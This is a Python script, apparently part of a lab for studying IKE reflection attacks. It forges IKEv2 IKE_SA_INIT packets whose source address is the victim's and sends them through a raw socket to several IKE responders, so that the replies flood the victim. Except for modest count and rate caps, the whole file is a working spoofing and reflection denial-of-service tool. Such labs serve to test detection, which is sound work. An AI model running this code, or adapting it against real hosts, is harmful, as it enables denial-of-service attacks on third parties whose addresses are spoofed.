#!/usr/bin/env python3
"""Spoofed IKEv2 IKE_SA_INIT requests for ntpsleuth's ike-reflection lab.

  spoof-ike-init  IKE_SA_INIT requests carrying the victim's address as
                  their source, round-robin to several IKE responders, each
                  from a new random source port (the victim's port the
                  answer will go to)

The responders are real strongSwan charon daemons; this only writes the
requests an attack tool would: RFC 7296 3.1 header (Initiator flag), an SA
payload with one IKE proposal (AES-CBC-128, HMAC-SHA2-256 PRF and
integrity, MODP-2048), a KE payload for group 14 and a nonce.  Packets go
out through one IPPROTO_RAW socket.  Bounded by a count and a time limit.
"""

import argparse
import os
import random
import socket
import struct
import sys
import time

IKE_SA_INIT = 34
NP_SA, NP_KE, NP_NONCE = 33, 34, 40
FLAG_INITIATOR = 0x08


def transform(last, ttype, tid, attrs=b""):
    # | last(0)/more(3) | RESERVED | Transform Length | Type | RESERVED | ID |
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0,
                       tid) + attrs


def ike_sa_init(rnd):
    trans = (transform(False, 1, 12, struct.pack("!HH", 0x800e, 128)) +  # ENCR_AES_CBC 128
             transform(False, 2, 5) +       # PRF_HMAC_SHA2_256
             transform(False, 3, 12) +      # AUTH_HMAC_SHA2_256_128
             transform(True, 4, 14))        # MODP-2048
    prop = struct.pack("!BBHBBBB", 0, 0, 8 + len(trans), 1, 1, 0, 4) + trans
    sa = struct.pack("!BBH", NP_KE, 0, 4 + len(prop)) + prop
    # A group 14 public value: any 256 bytes between 1 and p - 1.
    ke_data = bytes([rnd.randint(1, 0x7f)]) + bytes(rnd.getrandbits(8) for _ in range(255))
    ke = struct.pack("!BBHHH", NP_NONCE, 0, 8 + len(ke_data), 14, 0) + ke_data
    nonce_data = bytes(rnd.getrandbits(8) for _ in range(32))
    nonce = struct.pack("!BBH", 0, 0, 4 + len(nonce_data)) + nonce_data
    body = sa + ke + nonce
    hdr = struct.pack("!8s8sBBBBII", os.urandom(8), bytes(8), NP_SA, 0x20,
                      IKE_SA_INIT, FLAG_INITIATOR, 0, 28 + len(body))
    return hdr + body


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def udp_packet(src, sport, dst, dport, payload):
    ulen = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, ulen)
    udp = struct.pack("!HHHH", sport, dport, ulen, 0) + payload
    c = checksum(pseudo + udp) or 0xffff
    udp = udp[:6] + struct.pack("!H", c) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, 0, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + udp


def cmd_spoof_ike_init(a):
    dsts = a.dst.split(",")
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rnd = random.Random(a.seed)
    if a.align:
        # Start just after a whole second, so that a short run falls in
        # one second of the victim's per-second counts.
        time.sleep(1.05 - time.time() % 1)
    start = time.monotonic()
    n = 0
    while n < a.count and time.monotonic() - start < a.secs:
        # Paced to a.rate packets/s overall.
        wait = start + n / a.rate - time.monotonic()
        if wait > 0:
            time.sleep(wait)
        dst = dsts[n % len(dsts)]
        sport = rnd.randint(1024, 65535)
        s.sendto(udp_packet(a.src, sport, dst, 500, ike_sa_init(rnd)), (dst, 0))
        n += 1
    print("sent %d IKE_SA_INIT requests as %s to %s" % (n, a.src, a.dst), flush=True)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("spoof-ike-init")
    p.add_argument("--src", required=True, help="the victim's address, written as the source")
    p.add_argument("--dst", required=True, help="responders, comma-separated")
    p.add_argument("--count", type=int, default=120)
    p.add_argument("--rate", type=float, default=100, help="packets/s overall")
    p.add_argument("--secs", type=float, default=20)
    p.add_argument("--seed", type=int, default=15)
    p.add_argument("--align", action="store_true", help="start at a whole second")
    p.set_defaults(fn=cmd_spoof_ike_init)
    a = ap.parse_args()
    if a.count > 10000 or a.rate > 2000:
        sys.exit("refusing: at most 10000 requests at 2000/s")
    a.fn(a)


if __name__ == "__main__":
    main()
